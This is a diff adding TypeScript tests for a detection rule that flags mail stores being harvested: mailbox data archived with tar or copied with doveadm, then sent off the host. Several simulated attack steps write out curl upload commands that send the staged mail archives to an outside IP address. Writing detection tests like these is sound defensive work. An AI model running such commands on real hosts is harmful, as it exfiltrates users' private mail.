@@ -1,0 +1,102 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { type Delivered, HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
+import {
+  atMostAt,
+  factorsOf,
+  firesAt,
+  recording,
+  scanFolder,
+  scanLog,
+  storyOf,
+  valuesOf,
+} from '../an0656-phishing-attachment-executed/stories.test-support.ts';
+
+const OUT = '203.0.113.66';
+
+function mailHost(): { log: HostLog; mine: Delivered; other: Delivered } {
+  const log = new HostLog();
+  log.shell('ops').run('/usr/bin/vim notes.txt').write('/home/ops/notes.txt');
+  log.service('/usr/sbin/chronyd').connect('198.51.100.1', 123);
+  const mine = log.deliver();
+  const other = log.deliver({ to: 'buyer' });
+  log.shell('clerk').run('/usr/bin/mutt').read(mine.path);
+  log.wait(MINUTE);
+  return { log, mine, other };
+}
+
+test("recorded: what doveadm keeps beside the boxes it reads is no staged file, what the attacker's shell wrote is", async () => {
+  const { folder } = recording('an1310-mail-store-harvested/fires.doveadm-other-boxes');
+  const alert = storyOf((await scanFolder(folder)).alerts, 'AN1310');
+  assert.equal(alert.severity, 'medium');
+  const inStores = valuesOf(alert, 'file').filter(path => path.includes('/Maildir/'));
+  assert.deepEqual(inStores, []);
+  assert.match(alert.factors.find(factor => factor.name === 'staged in a file')?.evidence ?? '', /^\/dev\/shm\//);
+});
+
+for (const name of [
+  'dovecot.list.index.log.newlock',
+  'dovecot.index.tmp',
+  'dovecot.index.cache',
+  'dovecot-uidlist.lock',
+])
+  test(`the server's own tool writes ${name} into the store that it reads: bookkeeping`, async () => {
+    const { log, other } = mailHost();
+    const tool = log.shell('root').run('/usr/bin/doveadm mailbox status -u buyer all INBOX');
+    tool.read(other.path).write(`/home/buyer/Maildir/${name}`);
+    const alerts = await scanLog(log);
+    atMostAt(alerts, 'informational');
+    for (const alert of alerts) assert.ok(!factorsOf(alert).includes('staged in a file'), factorsOf(alert).join('\n'));
+  });
+
+test("an indexer's database below the store is bookkeeping, in a subfolder of it too", async () => {
+  const { log, mine } = mailHost();
+  const notmuch = log.cron('clerk', 'notmuch new').run('/usr/bin/notmuch new').read(mine.path);
+  notmuch.write('/home/clerk/Maildir/.notmuch/xapian/flintlock');
+  notmuch.write('/home/clerk/Maildir/.Archive/.index.tmp');
+  assert.deepEqual(await scanLog(log), []);
+});
+
+const STAGES: readonly (readonly [path: string, says: string])[] = [
+  ['/home/clerk/Maildir/.cache.tgz', 'a hidden archive'],
+  ['/home/clerk/Maildir/dovecot.index.log.newlock', "a name of the server's own"],
+  ['/home/clerk/Maildir/tmp/x.tar.gz', 'an archive where messages are put together'],
+  ['/home/clerk/mail/old.lock', 'a name of a lock, in another store'],
+];
+for (const [path, says] of STAGES)
+  test(`an archive that tar makes inside the store is a staged file: ${says}`, async () => {
+    const { log, mine } = mailHost();
+    const shell = log.shell('clerk');
+    shell.run(`/bin/tar czf ${path} Maildir/new`).write(path).read(mine.path);
+    log.wait(5 * MINUTE);
+    shell.run(`/usr/bin/curl -T ${path} http://${OUT}/x`).read(path).connect(OUT, 80);
+    const alert = firesAt(await scanLog(log), 'AN1310', 'medium');
+    assert.ok(factorsOf(alert).includes('staged in a file'), factorsOf(alert).join('\n'));
+    assert.ok(valuesOf(alert, 'file').includes(path), valuesOf(alert, 'file').join('\n'));
+  });
+
+test("the server's own tool that writes one person's mail into another's store makes a copy", async () => {
+  const { log, other } = mailHost();
+  const shell = log.shell('root');
+  const tool = shell.run('/usr/bin/doveadm backup -u buyer mbox:/home/clerk/mail/in');
+  tool.read(other.path).write('/home/clerk/mail/in');
+  log.wait(MINUTE);
+  shell.run(`/usr/bin/curl -T /home/clerk/mail/in http://${OUT}/x`).read('/home/clerk/mail/in').connect(OUT, 80);
+  const alert = firesAt(await scanLog(log), 'AN1310', 'medium');
+  assert.ok(valuesOf(alert, 'file').includes('/home/clerk/mail/in'), valuesOf(alert, 'file').join('\n'));
+});
+
+test('a copy of the tool that its user can write keeps no store', async () => {
+  const { log, other } = mailHost();
+  const tool = log.shell('ops').run('/home/ops/bin/doveadm fetch -u buyer text all').read(other.path);
+  tool.write('/home/buyer/Maildir/dovecot.index.tmp');
+  const alert = storyOf(await scanLog(log), 'AN1310');
+  assert.ok(factorsOf(alert).includes('staged in a file'));
+});
+
+test('a message that is moved to a folder by its owner is no copy', async () => {
+  const { log, mine } = mailHost();
+  const cp = log.shell('clerk').run(`/bin/cp ${mine.path} Maildir/.Archive/cur/`).read(mine.path);
+  cp.write('/home/clerk/Maildir/.Archive/cur/1772442000.M1P9.ws1:2,S');
+  assert.deepEqual(await scanLog(log), []);
+});
